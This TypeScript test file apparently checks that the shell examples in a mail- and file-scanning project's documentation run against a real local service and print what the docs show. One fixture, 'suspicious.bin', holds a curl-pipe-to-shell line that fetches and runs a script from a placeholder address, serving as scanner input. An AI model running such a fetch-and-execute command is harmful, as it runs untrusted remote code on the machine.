// Every example of the documents is run as it stands there, in a folder of its own beside a real service. What differs is the
// service's address, the key and its id, which a reader has of his own.
import assert from 'node:assert/strict'
import { spawnSync } from 'node:child_process'
import { globSync, mkdirSync, mkdtempSync, readFileSync, rmSync, symlinkSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { basename, dirname, join, resolve } from 'node:path'
import { after, before, describe, test } from 'node:test'
import { newCaller } from '../../../server/test/service/client.ts'
import { PHISH } from '../../../server/test/service/mail.ts'
import { BOOTSTRAP_KEY, makeDataDir, type Service, startService } from '../../../server/test/service/service.ts'
import { type CodeBlock, codeBlocks, isAsShown } from './code-blocks.ts'

const root = resolve(import.meta.dirname, '../../../..')
const DOCUMENTS = [
  'README.md',
  'CONTRIBUTING.md',
  'SECURITY.md',
  ...globSync('docs/*.md', { cwd: root }).map((name) => join('docs', basename(name))),
]
const EXAMPLE_MS_MAX = 120_000
/** As the documents write them. */
const ADDRESS = /127\.0\.0\.1:8080/g
const KEY = /assay_…/g
const KEY_ID = /key_…/g

/** What the examples name and no example makes. */
const FILES: Readonly<Record<string, string>> = {
  'message.eml': PHISH,
  'inbox.mbox': `From bounce@mailer.account-check.example Sat Jan 31 12:00:00 2026\n${PHISH.replaceAll('\r\n', '\n')}\n`,
  'suspicious.bin': '#!/bin/sh\ncurl -s http://198.51.100.7/a | sh\n',
  'folder/one.txt': 'A note.\n',
  'folder/two.sh': '#!/bin/sh\necho two\n',
  'phish/one.eml': PHISH,
  'ham/one.eml': 'From: Anna <anna@example.org>\r\nTo: ben@example.org\r\nSubject: Lunch\r\n\r\nAt noon as always?\r\n',
  'invoice.txt': 'Please find the outstanding balance attached.\n',
}

describe('examples of the documents', () => {
  const folder = mkdtempSync(join(tmpdir(), 'assay-examples-'))
  const dataDir = makeDataDir()
  let service: Service
  let keyId = ''
  before(async () => {
    for (const [name, text] of Object.entries(FILES)) {
      mkdirSync(join(folder, dirname(name)), { recursive: true })
      writeFileSync(join(folder, name), text)
    }
    // `npx` finds what a checkout has.
    symlinkSync(join(root, 'node_modules'), join(folder, 'node_modules'))
    service = await startService(dataDir.path, { ASSAY_LOG_LEVEL: 'error' })
    keyId = (await newCaller(service, ['file:read'], 0)).keyId
  })
  after(async () => {
    await service.stop()
    dataDir[Symbol.dispose]()
    rmSync(folder, { recursive: true, force: true })
  })

  /** Every command of the block is run; `exitCode` where it is not 0 is that of one of them at least, and 0 the others'. */
  function run(
    command: string,
    exitCode: number,
  ): { readonly status: number | null; readonly output: string; readonly all: string } {
    const text = command
      .replaceAll(ADDRESS, new URL(service.url).host)
      .replaceAll(KEY, BOOTSTRAP_KEY)
      .replaceAll(KEY_ID, keyId)
    const script = `seen=0; trap 'c=$?; [ "$c" = ${exitCode} ] || exit "$c"; seen=$c' ERR\n${text}\nexit "$seen"`
    const { status, stdout, stderr } = spawnSync('bash', ['--norc', '-uo', 'pipefail', '-c', script], {
      cwd: folder,
      encoding: 'utf8',
      timeout: EXAMPLE_MS_MAX,
      env: {
        PATH: process.env['PATH'] ?? '',
        HOME: folder,
        ASSAY_KEY: BOOTSTRAP_KEY,
        ASSAY_URL: service.url,
        ASSAY_DATA_DIR: dataDir.path,
        ASSAY_DNS: 'off',
      },
    })
    return { status, output: stdout, all: `${text}\n${stdout}\n${stderr}` }
  }

  function check(block: CodeBlock, before: { output: string }): void {
    if (block.savedAs !== null) {
      const path = join(folder, block.savedAs)
      mkdirSync(dirname(path), { recursive: true })
      writeFileSync(path, `${block.text}\n`)
    } else if (block.isOutput) {
      assert.ok(isAsShown(block.text, before.output), `it prints:\n${before.output}`)
    } else {
      assert.equal(block.language, 'sh', `a block of ${block.language} is saved, shown as output, or not run`)
      const { status, output, all } = run(block.text, block.exitCode)
      before.output = output
      assert.equal(status, block.exitCode, all)
      assert.doesNotMatch(all, /"success":false|cannot be used/, all)
    }
  }

  for (const document of DOCUMENTS) {
    const before = { output: '' }
    // What the document says is not run, with its reason, is no test.
    for (const block of codeBlocks(readFileSync(join(root, document), 'utf8')))
      if (block.notRun === null) test(`${document}:${block.line}`, () => check(block, before))
  }
})

test('what is shown is held against what is printed', () => {
  assert.ok(isAsShown('a  …\n…\nlast (1)', 'a  12 ms\nb\nc\nlast (1)\n'))
  assert.ok(isAsShown('a\n…\nb', 'a\nb'))
  assert.ok(!isAsShown('a\nb', 'a\nc\nb'))
  assert.ok(isAsShown('12 points', '7 points'))
  assert.ok(!isAsShown('a.c', 'abc'))
  assert.ok(!isAsShown('a', 'a\nb'))
})
